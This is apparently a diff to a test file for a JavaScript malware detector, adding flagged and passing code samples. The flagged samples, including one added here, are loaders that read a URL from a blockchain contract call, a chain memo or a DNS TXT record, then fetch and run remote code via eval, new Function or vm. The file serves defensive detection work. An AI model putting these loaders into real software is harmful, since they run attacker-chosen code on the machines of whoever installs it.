@@ -352,11 +352,29 @@ describeVerdicts("EXE-09", {
         const next = await fetch(result[0].memo);
         eval(await next.text());
       })();`,
+    "an address from a node of a chain under any name": `
+      const ask = (method, params) =>
+        fetch("https://rpc.sample.example", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params }) }).then((r) => r.json());
+      ask("eth_call", [{ to: "0x00000000000000000000000000000000000000aa" }, "latest"])
+        .then(({ result }) => fetch(Buffer.from(result.slice(2), "hex").toString()))
+        .then((r) => r.text())
+        .then((t) => new Function(t)());`,
     "an address from a name": `
       require("dns").resolveTxt("d.example.test", (e, r) => fetch(r[0][0]).then((x) => x.text()).then((t) => require("vm").runInThisContext(t)));`,
   },
   passes: {
     "a client of a chain": `exports.memo = async (sig) => (await (await fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: sig })).json()).result;`,
+    "a client of any node": `
+      exports.read = async (to, data) => {
+        const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to, data }, "latest"] });
+        return (await (await fetch("https://rpc.sample.example", { method: "POST", body })).json()).result;
+      };`,
+    "another protocol of the same form": `
+      exports.open = async () => {
+        const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: {} });
+        const { result } = await (await fetch("https://rpc.sample.example", { method: "POST", body })).json();
+        return fetch(result.url);
+      };`,
     "a record that is returned": `exports.txt = (name) => require("dns").promises.resolveTxt(name);`,
     "a version of a release": `
       exports.latest = async () => {
